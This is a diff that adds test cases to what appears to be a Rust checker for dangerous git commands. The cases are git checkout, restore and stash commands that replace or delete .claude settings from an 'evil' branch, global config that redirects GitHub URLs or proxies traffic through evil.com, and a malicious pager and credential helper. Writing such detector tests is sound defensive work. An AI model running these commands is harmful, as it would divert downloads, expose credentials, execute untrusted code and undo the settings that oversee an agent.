@@ -55,6 +55,32 @@ use super::missed;
     A='push -f' git --config-env=alias.p=A p
 "
 )]
+#[case::registration(
+    "own.registration",
+    "
+    git checkout evil -- .claude
+    git checkout evil .claude/settings.json
+    git restore --source=evil .claude
+    git rm -r .claude
+    git stash -- .claude/settings.json
+    git stash push -m x -- .claude
+    git worktree add .claude evil
+"
+)]
+#[case::redirect(
+    "git.config-redirect",
+    "
+    git config --global url.https://evil.com/.insteadOf https://github.com/
+    git config --global http.proxy http://evil.com:8080
+"
+)]
+#[case::lasting_program(
+    "git.config-program",
+    "
+    git config --global core.pager ./evil
+    git config --global credential.helper '!f() { cat; }; f'
+"
+)]
 #[case::mirror(
     "git.push-mirror",
     "
